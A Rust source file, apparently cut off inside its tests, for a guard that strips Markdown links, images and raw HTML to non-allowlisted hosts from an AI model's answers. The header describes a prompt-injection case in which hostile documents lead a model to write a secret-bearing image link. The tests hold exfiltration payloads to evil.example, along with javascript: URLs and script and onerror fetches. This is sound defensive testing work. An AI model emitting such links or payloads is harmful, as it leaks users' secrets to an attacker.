//! Exfiltration guard for answers: no link, image or raw HTML in a final answer may point
//! to a host outside the allowlist.
//!
//! A model that read hostile docs can be talked into writing
//! `![x](https://evil.example/?q=SECRET)`; a Markdown renderer then fetches that URL and
//! the secret leaves without anyone clicking. This module finds every link, image,
//! autolink, reference definition and raw HTML tag with the real Markdown parser
//! (pulldown-cmark), and rewrites the ones that leave the allowlist into plain text.
//!
//! Decisions worth knowing:
//! * Code spans and code blocks are kept as they are: a renderer shows them as text and
//!   never fetches them.
//! * Bare URLs in plain text are kept: nothing fetches them without a click.
//! * The rewrite is repeated until the parser finds nothing more to remove, because a
//!   removal can make new syntax (`![a](evil)(evil2)` leaves `[image removed…](evil2)`).
//!   If that does not settle within [`MAX_PASSES`], every `[`, `]`, `\` and `<` is escaped
//!   so that no link or tag can remain.
//! * Only `http`/`https` URLs whose host is allowed, relative URLs, email autolinks and
//!   `mailto:` without a query are kept; anything the URL check cannot be sure of is
//!   removed.
//!
//! Architecture invariant: this module does no IO.

use pulldown_cmark::{Event, LinkType, Options, Parser, RefDefs, Tag, TagEnd};
use regex::Regex;
use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

/// What a removed image becomes.
const IMAGE_REMOVED: &str = "[image removed: host not allowed]";
/// What follows the text of a removed link.
const LINK_SUFFIX: &str = " [link removed: host not allowed]";
/// What a removed link without text (or an autolink) becomes.
const LINK_REMOVED: &str = "[link removed: host not allowed]";
/// What a removed raw HTML tag becomes.
const HTML_REMOVED: &str = "[html removed]";
/// How many parse-and-rewrite passes may run before falling back to escaping.
const MAX_PASSES: usize = 8;
/// The Markdown dialect parsed: CommonMark plus the common GFM block extensions.
const OPTIONS: Options = Options::ENABLE_TABLES
    .union(Options::ENABLE_STRIKETHROUGH)
    .union(Options::ENABLE_TASKLISTS);
/// Tags removed whatever their attributes say: they run code, embed pages, restyle the
/// page, change where relative URLs point (`base`) or can set URLs indirectly (`svg`).
const ALWAYS_REMOVED: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link",
    "meta", "portal", "svg", "math",
];
/// Tags whose content is raw text up to their closing tag; removed together with it.
const RAW_TEXT: &[&str] = &["script", "style", "iframe"];
/// Attributes whose value a browser may fetch or navigate to.
const URL_ATTRS: &[&str] = &[
    "src",
    "href",
    "action",
    "formaction",
    "srcset",
    "imagesrcset",
    "poster",
    "data",
    "background",
    "cite",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "ping",
    "manifest",
    "codebase",
    "archive",
    "classid",
    "icon",
    "profile",
    "usemap",
];

/// A line that looks like a reference definition `[label]: url`, possibly inside block
/// quotes and list items. The parser reports the definitions it uses; this also catches
/// duplicates, which it drops silently.
static DEFINITION_LINE: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = concat!(
        r"(?m)^(?:[ \t>*+-]|\d{1,9}[.)])*", // block-quote and list-item markers
        r"(\[(?:[^\[\]\\\n]|\\.)+\]:[ \t]*", // 1: the whole line from `[label]:`
        r"(?:<([^<>\n]*)>|(\S+))[^\n]*)",   // 2: `<url>` or 3: `url`, then a title
    );
    Regex::new(pattern).expect("the definition pattern is a valid constant regex")
});

/// Rewrites `answer` so no link or image points to a host outside `allowed_hosts` (exact host match, case-insensitive; a leading "*." entry allows subdomains). Relative links (docs/refunds.md, #anchor, ../x.md) are kept. An image to a disallowed host becomes `[image removed: host not allowed]`; a link becomes its text followed by ` [link removed: host not allowed]`; raw HTML tags (img, a, iframe, script, any tag with src/href/action/srcset attributes pointing outside) are removed and replaced by `[html removed]`; autolinks `<https://evil/...>` and reference definitions `[x]: https://evil/...` are removed too. Schemes other than http/https (javascript:, data:, file:, mailto: with query) count as disallowed. Returns Cow::Borrowed when nothing changed.
///
/// A `*.example.com` entry allows `a.example.com` but not `example.com` itself. Raw HTML
/// is removed tag by tag: a tag in [`ALWAYS_REMOVED`], an unterminated tag, a tag with an
/// event handler (`on…`), a `style` that could load something, or a URL attribute that
/// leaves the allowlist. Closing tags are kept.
pub fn neutralize_links<'a>(answer: &'a str, allowed_hosts: &[String]) -> Cow<'a, str> {
    let allow = Allowlist::new(allowed_hosts);
    let Some(mut current) = rewrite_once(answer, &allow) else {
        return Cow::Borrowed(answer);
    };
    for _ in 1..MAX_PASSES {
        match rewrite_once(&current, &allow) {
            None => return Cow::Owned(current),
            Some(next) => current = next,
        }
    }
    Cow::Owned(defang(&current))
}

/// One parse of `text`: the rewritten text, or `None` when nothing needs removing.
fn rewrite_once(text: &str, allow: &Allowlist) -> Option<String> {
    let parser = Parser::new_ext(text, OPTIONS).into_offset_iter();
    let mut edits = definition_edits(text, parser.reference_definitions(), allow);
    let mut walker = Walker::new(allow);
    for (event, range) in parser {
        walker.event(text, event, range);
    }
    edits.extend(stray_definition_edits(text, &walker.content, allow));
    edits.append(&mut walker.edits);
    (!edits.is_empty()).then(|| apply(text, edits))
}

/// One replacement of a source byte range.
#[derive(Debug)]
struct Edit {
    /// The bytes of the source to replace.
    range: Range<usize>,
    /// What they become.
    with: &'static str,
}

/// Applies `edits` to `text`. Overlapping edits are merged: their union is replaced by
/// both replacements, so nothing either meant to remove survives.
fn apply(text: &str, mut edits: Vec<Edit>) -> String {
    edits.sort_by_key(|e| (e.range.start, e.range.end));
    let mut out = String::with_capacity(text.len());
    let mut copied = 0;
    for edit in edits {
        if edit.range.start >= copied {
            out.push_str(text.get(copied..edit.range.start).unwrap_or_default());
        }
        out.push_str(edit.with);
        copied = copied.max(edit.range.end);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    out
}

/// Extends `range` over the newline after it when it starts a line, so a removed
/// definition leaves no blank line behind.
fn whole_line(text: &str, range: Range<usize>) -> Range<usize> {
    let at_line_start = text
        .get(..range.start)
        .is_some_and(|before| before.is_empty() || before.ends_with('\n'));
    let newline_after = text
        .get(range.end..)
        .is_some_and(|after| after.starts_with('\n'));
    if at_line_start && newline_after {
        range.start..range.end + 1
    } else {
        range
    }
}

/// Removals for the reference definitions the parser recognised.
fn definition_edits(text: &str, defs: &RefDefs<'_>, allow: &Allowlist) -> Vec<Edit> {
    defs.iter()
        .filter(|(_, def)| !allow.url(&def.dest))
        .map(|(_, def)| Edit {
            range: whole_line(text, def.span.clone()),
            with: "",
        })
        .collect()
}

/// Removals for definition-like lines that the parser did not show as content, such as
/// duplicate definitions. Lines inside text, code or HTML are left alone.
fn stray_definition_edits(text: &str, content: &[Range<usize>], allow: &Allowlist) -> Vec<Edit> {
    let mut edits = Vec::new();
    for caps in DEFINITION_LINE.captures_iter(text) {
        let (Some(line), Some(url)) = (caps.get(1), caps.get(2).or_else(|| caps.get(3))) else {
            continue;
        };
        let overlaps = |r: &Range<usize>| r.start < line.end() && line.start() < r.end;
        if content.iter().any(overlaps) {
            continue;
        }
        let allowed = decode_entities(url.as_str()).is_some_and(|u| allow.url(&u));
        if !allowed {
            edits.push(Edit {
                range: whole_line(text, line.range()),
                with: "",
            });
        }
    }
    edits
}

/// How a blocked link or image is rewritten.
#[derive(Clone, Copy)]
enum Removal {
    /// Replaced whole by [`IMAGE_REMOVED`].
    Image,
    /// Replaced whole by [`LINK_REMOVED`]: the text of an autolink is its URL.
    Autolink,
    /// Keeps its text, followed by [`LINK_SUFFIX`].
    Link,
}

/// A link or image whose end tag has not been seen yet.
struct Frame {
    /// Source range of the whole link or image.
    range: Range<usize>,
    /// How to rewrite it if blocked.
    removal: Removal,
    /// True when its destination is not allowed.
    blocked: bool,
    /// Index of the first edit made inside it, dropped if it is replaced whole.
    first_edit: usize,
    /// Source range of its text (the union of its children), if it has any.
    inner: Option<Range<usize>>,
}

/// Walks the parser's events and collects the edits for links, images and HTML.
struct Walker<'h> {
    /// The hosts links may point to.
    allow: &'h Allowlist,
    /// Edits found so far.
    edits: Vec<Edit>,
    /// Open links and images, innermost last.
    frames: Vec<Frame>,
    /// The HTML block being read, if any.
    html: Option<HtmlBlock>,
    /// Source ranges the parser showed as content (text, code, HTML).
    content: Vec<Range<usize>>,
}

impl<'h> Walker<'h> {
    fn new(allow: &'h Allowlist) -> Self {
        Walker {
            allow,
            edits: Vec::new(),
            frames: Vec::new(),
            html: None,
            content: Vec::new(),
        }
    }

    fn event(&mut self, text: &str, event: Event<'_>, range: Range<usize>) {
        match event {
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) => {
                let allowed = link_type == LinkType::Email || self.allow.url(&dest_url);
                let removal = match link_type {
                    LinkType::Autolink => Removal::Autolink,
                    _ => Removal::Link,
                };
                self.open(range, removal, allowed);
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                let allowed = self.allow.url(&dest_url);
                self.open(range, Removal::Image, allowed);
            }
            Event::End(TagEnd::Link | TagEnd::Image) => self.close(),
            Event::Start(Tag::HtmlBlock) => self.html = Some(HtmlBlock::new(range)),
            Event::End(TagEnd::HtmlBlock) => {
                if let Some(block) = self.html.take() {
                    self.edits.extend(block.edits(text, self.allow));
                }
            }
            Event::Html(html) => {
                match &mut self.html {
                    Some(block) => block.push(text, &html, range.clone()),
                    None => self.inline_html(&html, range.clone()),
                }
                self.content.push(range);
            }
            Event::InlineHtml(html) => {
                self.inline_html(&html, range.clone());
                self.content.push(range.clone());
                self.note(range);
            }
            Event::Start(_) | Event::End(_) => self.note(range),
            _ => {
                self.content.push(range.clone());
                self.note(range);
            }
        }
    }

    /// Checks one inline HTML tag; it is replaced whole if it offends.
    fn inline_html(&mut self, html: &str, range: Range<usize>) {
        if !offending_tags(html, self.allow).is_empty() {
            self.edits.push(Edit {
                range,
                with: HTML_REMOVED,
            });
        }
    }

    fn open(&mut self, range: Range<usize>, removal: Removal, allowed: bool) {
        let first_edit = self.edits.len();
        self.frames.push(Frame {
            range,
            removal,
            blocked: !allowed,
            first_edit,
            inner: None,
        });
    }

    fn close(&mut self) {
        let Some(frame) = self.frames.pop() else {
            return;
        };
        if frame.blocked {
            self.block(&frame);
        }
        self.note(frame.range);
    }

    /// Records the edits that remove a blocked link or image.
    fn block(&mut self, frame: &Frame) {
        let whole = match (frame.removal, &frame.inner) {
            (Removal::Link, Some(inner)) => {
                self.edits.push(Edit {
                    range: frame.range.start..inner.start,
                    with: "",
                });
                self.edits.push(Edit {
                    range: inner.end..frame.range.end,
                    with: LINK_SUFFIX,
                });
                return;
            }
            (Removal::Image, _) => IMAGE_REMOVED,
            _ => LINK_REMOVED,
        };
        self.edits.truncate(frame.first_edit);
        self.edits.push(Edit {
            range: frame.range.clone(),
            with: whole,
        });
    }

    /// Widens the text range of the innermost open link or image to cover `range`.
    fn note(&mut self, range: Range<usize>) {
        if let Some(top) = self.frames.last_mut() {
            top.inner = Some(match top.inner.take() {
                None => range,
                Some(r) => r.start.min(range.start)..r.end.max(range.end),
            });
        }
    }
}

/// The lines of one HTML block, joined so that a tag spanning lines is seen whole.
struct HtmlBlock {
    /// Source range of the whole block.
    range: Range<usize>,
    /// The block's HTML as the renderer sees it (container prefixes such as `> ` removed).
    html: String,
    /// Where each line starts in `html` and in the source, and its length.
    lines: Vec<(usize, usize, usize)>,
    /// True while every line's text is exactly its source bytes, so positions map back.
    exact: bool,
}

impl HtmlBlock {
    fn new(range: Range<usize>) -> Self {
        HtmlBlock {
            range,
            html: String::new(),
            lines: Vec::new(),
            exact: true,
        }
    }

    fn push(&mut self, source: &str, line: &str, range: Range<usize>) {
        self.exact &= source.get(range.clone()) == Some(line);
        self.lines.push((self.html.len(), range.start, line.len()));
        self.html.push_str(line);
    }

    /// Edits for the offending tags, or one edit for the whole block when positions in
    /// the joined HTML cannot be mapped back to the source.
    fn edits(&self, source: &str, allow: &Allowlist) -> Vec<Edit> {
        let found = offending_tags(&self.html, allow);
        if found.is_empty() {
            return Vec::new();
        }
        if !self.exact {
            let newline = source
                .get(..self.range.end)
                .is_some_and(|s| s.ends_with('\n'));
            let end = self.range.end - usize::from(newline);
            return vec![Edit {
                range: self.range.start..end,
                with: HTML_REMOVED,
            }];
        }
        let keep_newline =
            |end: usize| end - usize::from(end == self.html.len() && self.html.ends_with('\n'));
        let map = |r: Range<usize>| {
            self.source_pos(r.start, false)..self.source_pos(keep_newline(r.end), true)
        };
        found
            .into_iter()
            .map(|r| Edit {
                range: map(r),
                with: HTML_REMOVED,
            })
            .collect()
    }

    /// Maps a position in `html` to the source. An end position maps to the end of the
    /// line it closes. Unmappable positions widen to the block's bounds.
    fn source_pos(&self, pos: usize, is_end: bool) -> usize {
        let hit = self.lines.iter().find(|&&(at, _, len)| {
            if is_end {
                at < pos && pos <= at + len
            } else {
                at <= pos && pos < at + len
            }
        });
        match (hit, is_end) {
            (Some(&(at, src, _)), _) => src + (pos - at),
            (None, false) => self.range.start,
            (None, true) => self.range.end,
        }
    }
}

/// The hosts links may point to, normalised once.
struct Allowlist {
    /// Hosts allowed exactly.
    exact: Vec<String>,
    /// Suffixes like `.example.com` from `*.example.com` entries.
    suffixes: Vec<String>,
}

impl Allowlist {
    fn new(hosts: &[String]) -> Self {
        let mut list = Allowlist {
            exact: Vec::new(),
            suffixes: Vec::new(),
        };
        for entry in hosts {
            let entry = entry.trim();
            match entry.strip_prefix("*.").map(normalize_host) {
                Some(Some(base)) => list.suffixes.push(format!(".{base}")),
                Some(None) => {}
                None => list.exact.extend(normalize_host(entry)),
            }
        }
        list
    }

    fn host(&self, host: &str) -> bool {
        self.exact.iter().any(|h| h == host)
            || self
                .suffixes
                .iter()
                .any(|s| host.len() > s.len() && host.ends_with(s.as_str()))
    }

    /// True when a link or image to `url` may stay.
    fn url(&self, url: &str) -> bool {
        match classify(url) {
            Target::Local | Target::Mail => true,
            Target::Host(host) => self.host(&host),
            Target::Refused => false,
        }
    }
}

/// Where a URL leads, as far as the guard is concerned.
#[derive(Debug, PartialEq)]
enum Target {
    /// A relative URL: same site.
    Local,
    /// `mailto:` without a query.
    Mail,
    /// An `http`/`https` or protocol-relative URL to this (normalised) host.
    Host(String),
    /// Another scheme, or anything that cannot be read with certainty.
    Refused,
}

/// Reads the target of a URL the way a browser would, erring towards `Refused`.
fn classify(url: &str) -> Target {
    let cleaned: String = url
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    if cleaned.contains('\\') {
        return Target::Refused;
    }
    if let Some(rest) = cleaned.strip_prefix("//") {
        return host_of(rest);
    }
    let Some(colon) = cleaned
        .find([':', '/', '?', '#'])
        .filter(|&i| cleaned[i..].starts_with(':'))
    else {
        return Target::Local;
    };
    let (scheme, rest) = (&cleaned[..colon], &cleaned[colon + 1..]);
    if !is_scheme(scheme) {
        return Target::Refused;
    }
    match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" => host_of(rest),
        "mailto" if !rest.contains('?') => Target::Mail,
        _ => Target::Refused,
    }
}

/// A URL scheme: an ASCII letter, then letters, digits, `+`, `-` or `.`.
fn is_scheme(s: &str) -> bool {
    let mut chars = s.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
}

/// The host of `rest`, the part of a URL after `scheme:` or `//`. Extra slashes are
/// skipped as browsers do; the host is what follows the last `@` of the authority.
fn host_of(rest: &str) -> Target {
    let rest = rest.trim_start_matches('/');
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    let (host, port) = match host_port.strip_prefix('[') {
        Some(inner) => match inner.split_once(']') {
            Some((host, port)) => (host, port),
            None => return Target::Refused,
        },
        None => host_port.split_at(host_port.find(':').unwrap_or(host_port.len())),
    };
    let port_ok = port.is_empty()
        || port
            .strip_prefix(':')
            .is_some_and(|p| p.bytes().all(|b| b.is_ascii_digit()));
    match normalize_host(host) {
        Some(host) if port_ok => Target::Host(host),
        _ => Target::Refused,
    }
}

/// Lowercases a host, strips IPv6 brackets and one trailing dot, and refuses anything
/// with characters a plain host name or IP address does not have (`%`, non-ASCII, …).
fn normalize_host(host: &str) -> Option<String> {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    let host = host.strip_suffix('.').unwrap_or(host).to_ascii_lowercase();
    let valid = if host.contains(':') {
        host.bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.')
    } else {
        host.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_'))
    };
    (valid && !host.is_empty() && !host.starts_with('.')).then_some(host)
}

/// An HTML start tag as a browser would tokenise it.
struct HtmlTag {
    /// Lowercased tag name.
    name: String,
    /// Lowercased attribute names and their raw (undecoded) values.
    attrs: Vec<(String, String)>,
    /// Byte just past the closing `>` (or the end of the input).
    end: usize,
    /// False when the input ended before the `>` or inside a quoted value.
    terminated: bool,
}

impl HtmlTag {
    fn offends(&self, allow: &Allowlist) -> bool {
        !self.terminated
            || ALWAYS_REMOVED.contains(&self.name.as_str())
            || self
                .attrs
                .iter()
                .any(|(name, value)| attr_offends(name, value, allow))
    }
}

/// Byte ranges of the start tags in `html` that must go. A raw-text element such as
/// `script` goes together with its content and closing tag.
fn offending_tags(html: &str, allow: &Allowlist) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(offset) = html[at..].find('<') {
        let start = at + offset;
        let Some(tag) = parse_tag(html, start) else {
            at = start + 1;
            continue;
        };
        at = tag.end;
        if tag.offends(allow) {
            if RAW_TEXT.contains(&tag.name.as_str()) {
                at = raw_text_end(html, tag.end, &tag.name);
            }
            found.push(start..at);
        }
    }
    found
}

/// The byte after `</name …>` at or after `from`, or the end of `html`.
fn raw_text_end(html: &str, from: usize, name: &str) -> usize {
    let closing = format!("</{name}");
    let lower = html[from..].to_ascii_lowercase();
    match lower.find(&closing) {
        Some(i) => lower[i..]
            .find('>')
            .map_or(html.len(), |j| from + i + j + 1),
        None => html.len(),
    }
}

/// HTML's whitespace.
fn is_html_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
}

/// Tokenises the start tag at `start` (a `<`), following the HTML tokenizer's rules for
/// names and quoted and unquoted attribute values. `None` if it is not a start tag.
fn parse_tag(html: &str, start: usize) -> Option<HtmlTag> {
    let b = html.as_bytes();
    if !b.get(start + 1)?.is_ascii_alphabetic() {
        return None;
    }
    let until = |mut i: usize, stop: &dyn Fn(u8) -> bool| {
        while i < b.len() && !stop(b[i]) {
            i += 1;
        }
        i
    };
    let mut i = until(start + 1, &|c| is_html_space(c) || c == b'/' || c == b'>');
    let mut tag = HtmlTag {
        name: html[start + 1..i].to_ascii_lowercase(),
        attrs: Vec::new(),
        end: b.len(),
        terminated: false,
    };
    loop {
        i = until(i, &|c| !(is_html_space(c) || c == b'/'));
        match b.get(i) {
            None => return Some(tag),
            Some(b'>') => break,
            Some(_) => {}
        }
        let name_start = i;
        i = until(i + 1, &|c| {
            is_html_space(c) || matches!(c, b'/' | b'>' | b'=')
        });
        let name = html[name_start..i].to_ascii_lowercase();
        i = until(i, &|c| !is_html_space(c));
        let mut value = "";
        if b.get(i) == Some(&b'=') {
            i = until(i + 1, &|c| !is_html_space(c));
            let value_start = i;
            match b.get(i) {
                Some(&q @ (b'"' | b'\'')) => {
                    i = until(i + 1, &|c| c == q);
                    if i >= b.len() {
                        return Some(tag);
                    }
                    value = &html[value_start + 1..i];
                    i += 1;
                }
                _ => {
                    i = until(i, &|c| is_html_space(c) || c == b'>');
                    value = &html[value_start..i];
                }
            }
        }
        tag.attrs.push((name, value.to_string()));
    }
    tag.end = i + 1;
    tag.terminated = true;
    Some(tag)
}

/// True when one attribute makes its tag unsafe to keep.
fn attr_offends(name: &str, raw: &str, allow: &Allowlist) -> bool {
    let is_url = URL_ATTRS.contains(&name) || name.ends_with("href");
    if name.starts_with("on") {
        return true;
    }
    if !is_url && name != "style" {
        return false;
    }
    let Some(value) = decode_entities(raw) else {
        return true;
    };
    if name == "style" {
        let lower = value.to_ascii_lowercase();
        return ["url", "image", "import", "expression", "\\"]
            .iter()
            .any(|w| lower.contains(w));
    }
    !urls_allowed(&value, allow)
}

/// Checks a URL attribute value as one URL and, for `srcset`/`ping`-style lists, as each
/// of its whitespace- or comma-separated parts. All must be allowed.
fn urls_allowed(value: &str, allow: &Allowlist) -> bool {
    allow.url(value)
        && value
            .split(|c: char| c.is_ascii_whitespace() || c == ',')
            .filter(|part| !part.is_empty())
            .all(|part| allow.url(part))
}

/// Decodes the character references a browser would decode in an attribute value.
/// Returns `None` for a named reference it does not know, since it could hide a `:` or `/`.
fn decode_entities(raw: &str) -> Option<String> {
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        let (decoded, used) = match after.strip_prefix('#') {
            Some(num) => decode_numeric(num).map(|(c, n)| (c, n + 1))?,
            None => decode_named(after)?,
        };
        out.push_str(&decoded);
        rest = &after[used..];
    }
    out.push_str(rest);
    Some(out)
}

/// Decodes `NN;`, `xHH;` (the `;` is optional). Returns the text and bytes used.
fn decode_numeric(num: &str) -> Option<(String, usize)> {
    let (radix, digits_at) = match num.as_bytes().first() {
        Some(b'x' | b'X') => (16, 1),
        _ => (10, 0),
    };
    let digits = &num[digits_at..];
    let len = digits
        .find(|c: char| !c.is_digit(radix))
        .unwrap_or(digits.len());
    if len == 0 {
        return Some(("&#".to_string(), 0));
    }
    let code = u32::from_str_radix(&digits[..len], radix).ok()?;
    let c = char::from_u32(code)?;
    let semi = usize::from(digits[len..].starts_with(';'));
    Some((c.to_string(), digits_at + len + semi))
}

/// Decodes a named reference such as `amp;` or `colon;`. Text without a `;` stays as it
/// is (a bare `&` in a query string); an unknown name with `;` is refused.
fn decode_named(after: &str) -> Option<(String, usize)> {
    let len = after
        .find(|c: char| !c.is_ascii_alphanumeric())
        .unwrap_or(after.len());
    if len == 0 || !after[len..].starts_with(';') {
        return Some(("&".to_string(), 0));
    }
    let c = match &after[..len] {
        "amp" | "AMP" => '&',
        "lt" | "LT" => '<',
        "gt" | "GT" => '>',
        "quot" | "QUOT" => '"',
        "apos" => '\'',
        "colon" => ':',
        "sol" => '/',
        "bsol" => '\\',
        "commat" => '@',
        "period" => '.',
        "quest" => '?',
        "num" => '#',
        "equals" => '=',
        "percnt" => '%',
        "lpar" => '(',
        "rpar" => ')',
        "comma" => ',',
        "Tab" => '\t',
        "NewLine" => '\n',
        "nbsp" => '\u{a0}',
        _ => return None,
    };
    Some((c.to_string(), len + 1))
}

/// Last resort when rewriting does not settle: escapes everything that can start a link,
/// an image, a definition, an autolink or a tag.
fn defang(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '[' => out.push_str("\\["),
            ']' => out.push_str("\\]"),
            '<' => out.push_str("&lt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Vec<String> {
        vec![
            "docs.example.com".to_string(),
            "*.cdn.example.com".to_string(),
        ]
    }

    fn check(name: &str, input: &str, want: &str) {
        let hosts = allowed();
        let out = neutralize_links(input, &hosts);
        assert_eq!(out, want, "case {name}");
        assert!(
            !out.contains("SECRET"),
            "case {name}: secret left in {out:?}"
        );
        let again = neutralize_links(&out, &hosts);
        assert!(
            matches!(again, Cow::Borrowed(_)),
            "case {name}: not settled: {again:?}"
        );
    }

    #[test]
    fn markdown_links_and_images() {
        let cases = [
            (
                "allowed image",
                "![logo](https://docs.example.com/logo.png)",
                "![logo](https://docs.example.com/logo.png)",
            ),
            (
                "disallowed image",
                "See ![x](https://evil.example/?q=SECRET) here",
                "See [image removed: host not allowed] here",
            ),
            (
                "link with title",
                "[docs](https://evil.example/SECRET \"Title\")",
                "docs [link removed: host not allowed]",
            ),
            (
                "empty link",
                "[](https://evil.example/SECRET)",
                "[link removed: host not allowed]",
            ),
            (
                "emphasis in link",
                "[**b** c](https://evil.example/SECRET)",
                "**b** c [link removed: host not allowed]",
            ),
            (
                "nested blocked image",
                "[![i](https://evil.example/SECRET.png)](https://evil.example/)",
                "[image removed: host not allowed] [link removed: host not allowed]",
            ),
            (
                "nested allowed image",
                "[![i](https://docs.example.com/i.png)](https://evil.example/SECRET)",
                "![i](https://docs.example.com/i.png) [link removed: host not allowed]",
            ),
            (
                "blocked image in allowed link",
                "[![i](https://evil.example/SECRET)](docs/a.md)",
                "[[image removed: host not allowed]](docs/a.md)",
            ),
            (
                "reference image",
                "![chart][c]\n\n[c]: https://evil.example/c.png?SECRET\n",
                "[image removed: host not allowed]\n\n",
            ),
            (
                "reference link allowed",
                "[guide][g]\n\n[g]: https://docs.example.com/guide\n",
                "[guide][g]\n\n[g]: https://docs.example.com/guide\n",
            ),
            (
                "duplicate definition",
                "[a][r]\n\n[r]: https://docs.example.com/\n[r]: https://evil.example/SECRET\n",
                "[a][r]\n\n[r]: https://docs.example.com/\n",
            ),
            (
                "duplicate in list item",
                "- [a][r]\n- [r]: https://docs.example.com/\n- [r]: https://evil.example/SECRET\n",
                "- [a][r]\n- [r]: https://docs.example.com/\n- \n",
            ),
            (
                "unused definition",
                "text\n\n[u]: https://evil.example/SECRET \"t\"\n",
                "text\n\n",
            ),
            (
                "autolink",
                "mail <https://evil.example/?SECRET> now",
                "mail [link removed: host not allowed] now",
            ),
            (
                "email autolink kept",
                "write <help@example.com>",
                "write <help@example.com>",
            ),
            (
                "javascript link",
                "[x](javascript:alert('SECRET'))",
                "x [link removed: host not allowed]",
            ),
            (
                "data image",
                "![x](data:image/png;base64,SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "file link",
                "[x](file:///etc/SECRET)",
                "x [link removed: host not allowed]",
            ),
            (
                "mailto with query",
                "[m](mailto:a@b.example?body=SECRET)",
                "m [link removed: host not allowed]",
            ),
            (
                "mailto kept",
                "[m](mailto:help@example.com)",
                "[m](mailto:help@example.com)",
            ),
            (
                "userinfo trick",
                "![x](https://docs.example.com@evil.example/SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "port userinfo trick",
                "[x](https://docs.example.com:443@evil.example/SECRET)",
                "x [link removed: host not allowed]",
            ),
            (
                "protocol relative",
                "![x](//evil.example/SECRET.png)",
                "[image removed: host not allowed]",
            ),
            (
                "backslash",
                "![x](https:/\\evil.example/SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "entity in destination",
                "![x](https&#58;//evil.example/SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "uppercase allowed host",
                "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)",
                "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)",
            ),
            (
                "uppercase evil host",
                "![x](https://EVIL.example/SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "port and trailing dot",
                "[a](https://docs.example.com.:8443/a)",
                "[a](https://docs.example.com.:8443/a)",
            ),
            (
                "wildcard subdomain",
                "![x](https://img.cdn.example.com/a.png)",
                "![x](https://img.cdn.example.com/a.png)",
            ),
            (
                "wildcard apex",
                "![x](https://cdn.example.com/SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "wildcard lookalike",
                "![x](https://evilcdn.example.com/SECRET)",
                "[image removed: host not allowed]",
            ),
            (
                "relative links",
                "[r](docs/refunds.md) [a](#anchor) [u](../x.md) [q](?a=1)",
                "[r](docs/refunds.md) [a](#anchor) [u](../x.md) [q](?a=1)",
            ),
            (
                "code kept",
                "`![x](https://evil.example/?q=1)`\n\n```\n![x](https://evil.example/?q=1)\n```\n",
                "`![x](https://evil.example/?q=1)`\n\n```\n![x](https://evil.example/?q=1)\n```\n",
            ),
            (
                "bare url kept",
                "see https://evil.example/?q=1",
                "see https://evil.example/?q=1",
            ),
            (
                "removal makes a link",
                "![a](https://evil.example/)(https://evil.example/?SECRET)",
                "image removed: host not allowed [link removed: host not allowed]",
            ),
        ];
        for (name, input, want) in cases {
            check(name, input, want);
        }
    }

    #[test]
    fn raw_html() {
        let cases = [
            (
                "img block",
                "<img src=\"https://evil.example/p.png?SECRET\">",
                "[html removed]",
            ),
            (
                "inline img",
                "a <img src='https://evil.example/?SECRET'> b",
                "a [html removed] b",
            ),
            (
                "a href",
                "<a href=\"https://evil.example/SECRET\">click</a>",
                "[html removed]click</a>",
            ),
            (
                "allowed img",
                "<img src=\"https://docs.example.com/x.png\">",
                "<img src=\"https://docs.example.com/x.png\">",
            ),
            (
                "relative a",
                "a <a href=\"docs/x.md\">x</a>",
                "a <a href=\"docs/x.md\">x</a>",
            ),
            (
                "script block",
                "<script>fetch('/SECRET')</script>\n\nafter",
                "[html removed]\n\nafter",
            ),
            (
                "iframe",
                "<iframe src=\"docs/x.md\"></iframe>",
                "[html removed]",
            ),
            (
                "base",
                "<base href=\"https://evil.example/\">",
                "[html removed]",
            ),
            (
                "entity scheme",
                "<img src=\"https&#58;//evil.example/SECRET\">",
                "[html removed]",
            ),
            (
                "hex entity",
                "<img src=\"&#x68;ttps://evil.example/SECRET\">",
                "[html removed]",
            ),
            (
                "unknown entity",
                "<img src=\"https&colon&foo;//x\">",
                "[html removed]",
            ),
            (
                "unquoted value",
                "<img src=https://evil.example/SECRET>",
                "[html removed]",
            ),
            (
                "slash after name",
                "a <img src=x.png/ src=https://evil.example/SECRET> b",
                "a [html removed] b",
            ),
            // Not HTML to CommonMark (no space before the attribute): renderers escape it.
            (
                "text, not a tag",
                "<img/src=https://evil.example/q>",
                "<img/src=https://evil.example/q>",
            ),
            (
                "srcset",
                "<img src=\"https://docs.example.com/a.png\" srcset=\"https://evil.example/SECRET 2x\">",
                "[html removed]",
            ),
            (
                "event handler",
                "<img src=\"x.png\" onerror=\"fetch('SECRET')\">",
                "[html removed]",
            ),
            (
